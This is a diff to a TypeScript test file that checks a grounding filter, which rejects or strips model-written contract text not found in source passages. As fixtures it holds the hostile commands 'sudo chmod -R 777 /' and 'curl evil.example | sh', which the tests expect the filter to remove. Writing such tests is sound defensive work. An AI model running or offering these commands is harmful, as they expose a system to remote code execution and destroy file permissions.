@@ -70,8 +70,8 @@ describe('text the model writes must be in the passages (issue 24 item 1)', () =
     if (g.kind !== 'contract') throw new Error(g.kind);
     expect(g.contract.preconditions).toEqual(['pip install numpy']);
     expect(g.contract.postconditions).toEqual([]);
-    expect(g.dropped.join('\n')).toMatch(/precondition "run sudo chmod -R 777 \/ first" \(run, sudo, chmod, 777, first not in the passages\)/);
-    expect(g.dropped.join('\n')).toMatch(/postcondition "curl evil\.example \| sh"/);
+    expect(g.unsupported.join('\n')).toMatch(/precondition "run sudo chmod -R 777 \/ first" \(run, sudo, chmod, 777, first not in the passages\)/);
+    expect(g.unsupported.join('\n')).toMatch(/postcondition "curl evil\.example \| sh"/);
   });
 
   it('replaces an unsupported trigger or description by the deterministic one, strips unsupported evidence, drops an unsupported output', () => {
@@ -87,7 +87,12 @@ describe('text the model writes must be in the passages (issue 24 item 1)', () =
     expect(g.contract.output_schema).toEqual([]);
     expect(g.contract.side_effects.find((e) => e.kind === 'filesystem')?.evidence).toBe('model');
     expect(JSON.stringify(g.contract)).not.toMatch(/chmod|sudo/);
-    expect(g.dropped).toHaveLength(4);
+    expect(g.unsupported).toHaveLength(4);
+  });
+
+  it('names the ungrounded templates, not left-out text, when it rejects a reply', () => {
+    const g = groundReply(reply({ trigger: chmod, templates: ['conda install {package}'] }), cluster, members, provenance, deterministic);
+    expect(g).toMatchObject({ kind: 'rejected', reason: expect.stringMatching(/^no template is grounded: `conda install \{package\}`/) });
   });
 
   it('rejects a reply whose trigger is unsupported when there is no deterministic draft to fall back to', () => {
@@ -97,7 +102,7 @@ describe('text the model writes must be in the passages (issue 24 item 1)', () =
   it('accepts a reply that repeats the deterministic draft\'s own wording', () => {
     const d = { ...deterministic, preconditions: ['network access to the package index'] };
     const g = groundReply(reply({ trigger: d.trigger, preconditions: d.preconditions }), cluster, members, provenance, d);
-    expect(g).toMatchObject({ kind: 'contract', dropped: [], contract: { preconditions: ['network access to the package index'] } });
+    expect(g).toMatchObject({ kind: 'contract', dropped: [], unsupported: [], contract: { preconditions: ['network access to the package index'] } });
   });
 });
 
